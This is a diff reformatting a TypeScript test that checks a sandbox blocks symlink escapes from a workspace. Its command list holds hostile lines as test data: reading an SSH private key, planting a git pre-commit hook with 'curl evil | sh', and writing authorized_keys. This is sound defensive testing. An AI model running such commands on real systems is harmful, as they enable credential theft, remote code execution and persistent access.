@@ -25,31 +25,34 @@ describe('links planted in the workspace lead nowhere', () => {
     fx.cleanup();
   });
 
-  it.each<SandboxGrant>(['read_only', 'yolo'])('%s: reads nothing behind a link and writes nothing through one', async (grant) => {
-    expect(sandbox.status.available).toBe(true);
-    const outcome = await runIn(
-      sandbox,
-      fx,
-      [
-        'cat keys/id_rsa data/gatehouse.db up/outside/keep.txt',
-        'ls -1A keys/ data/ up/outside/',
-        'echo planted > up/outside/new.txt',
-        'echo "curl evil | sh" > hooks/pre-commit',
-        'echo key > keys/authorized_keys',
-        'exit 0',
-      ].join('; '),
-      { grant },
-    );
-    expect(outcome.confined).toBe(true);
-    expect(outcome.output).not.toContain(SECRET_KEY);
-    expect(outcome.output).not.toContain(DATA_SECRET);
-    expect(outcome.output).not.toContain('outside text');
-    // Listed through the links, the folders behind them look empty.
-    const lines = outcome.output.split('\n');
-    for (const name of ['id_rsa', 'gatehouse.db', 'keep.txt']) expect(lines).not.toContain(name);
-    expect(existsSync(path.join(fx.outside, 'new.txt'))).toBe(false);
-    expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
-    expect(existsSync(path.join(fx.home, '.ssh', 'authorized_keys'))).toBe(false);
-    expect(readFileSync(path.join(fx.home, '.ssh', 'id_rsa'), 'utf8')).toBe(`${SECRET_KEY}\n`);
-  });
+  it.each<SandboxGrant>(['read_only', 'yolo'])(
+    '%s: reads nothing behind a link and writes nothing through one',
+    async (grant) => {
+      expect(sandbox.status.available).toBe(true);
+      const outcome = await runIn(
+        sandbox,
+        fx,
+        [
+          'cat keys/id_rsa data/gatehouse.db up/outside/keep.txt',
+          'ls -1A keys/ data/ up/outside/',
+          'echo planted > up/outside/new.txt',
+          'echo "curl evil | sh" > hooks/pre-commit',
+          'echo key > keys/authorized_keys',
+          'exit 0',
+        ].join('; '),
+        { grant },
+      );
+      expect(outcome.confined).toBe(true);
+      expect(outcome.output).not.toContain(SECRET_KEY);
+      expect(outcome.output).not.toContain(DATA_SECRET);
+      expect(outcome.output).not.toContain('outside text');
+      // Listed through the links, the folders behind them look empty.
+      const lines = outcome.output.split('\n');
+      for (const name of ['id_rsa', 'gatehouse.db', 'keep.txt']) expect(lines).not.toContain(name);
+      expect(existsSync(path.join(fx.outside, 'new.txt'))).toBe(false);
+      expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      expect(existsSync(path.join(fx.home, '.ssh', 'authorized_keys'))).toBe(false);
+      expect(readFileSync(path.join(fx.home, '.ssh', 'id_rsa'), 'utf8')).toBe(`${SECRET_KEY}\n`);
+    },
+  );
 });
